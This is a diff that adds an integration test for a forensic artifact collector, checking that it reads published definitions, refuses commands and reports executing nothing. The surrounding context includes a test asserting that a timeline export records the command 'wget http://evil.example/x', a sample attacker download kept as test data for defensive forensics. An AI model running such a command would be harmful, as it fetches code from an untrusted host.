@@ -19,6 +19,7 @@ use hozen_tests::host::{Mounts, is_root, skipped};
 use hozen_tests::python;
 use nix::sys::stat::{UtimensatFlags, utimensat};
 use nix::sys::time::TimeSpec;
+use serde_json::Value;
 
 /// What a program prints; it must succeed.
 fn said(command: &mut Command) -> String {
@@ -89,6 +90,22 @@ fn tools_of_others_read_an_export() {
     let events = fs::read_to_string(out.join("timesketch.jsonl")).unwrap();
     let typed = |line: &str| line.contains("wget http://evil.example/x") && line.contains("2023-11-14T22:13:20.000000+00:00");
     assert!(events.lines().any(typed), "the command is no event");
+}
+
+#[test]
+fn the_published_definitions_are_read() {
+    let Some(python) = python::forensics("the_published_definitions_are_read") else { return };
+    let counted: Value = serde_json::from_str(&said(Command::new(python).arg(python::script("definitions.py")))).unwrap();
+    let folder = counted["folder"].as_str().unwrap();
+    let only = ["collect", "--dry-run", "--unprivileged", "--only", "user_files", "--artifacts", folder];
+    let finished = Agent::find().run(only);
+    finished.assert_code(0);
+    let taken = &finished.result()["user_files"];
+    // Each path for Linux is looked for, but those of files that the kernel makes; they and the commands are refused.
+    assert_eq!((&taken["content"], &taken["listing"]), (&counted["FILE"], &counted["PATH"]), "{counted} {taken}");
+    assert!(counted["FILE"].as_u64() > Some(800) && counted["COMMAND"].as_u64() > Some(0), "{counted}");
+    assert!(taken["refused"].as_u64() >= counted["COMMAND"].as_u64() && taken["other_system"].as_u64() > Some(100), "{taken}");
+    assert!(finished.said().contains("Hozen executes nothing on a host"), "{}", finished.said());
 }
 
 /// Every function that dissect.target has for what was collected of a running system.
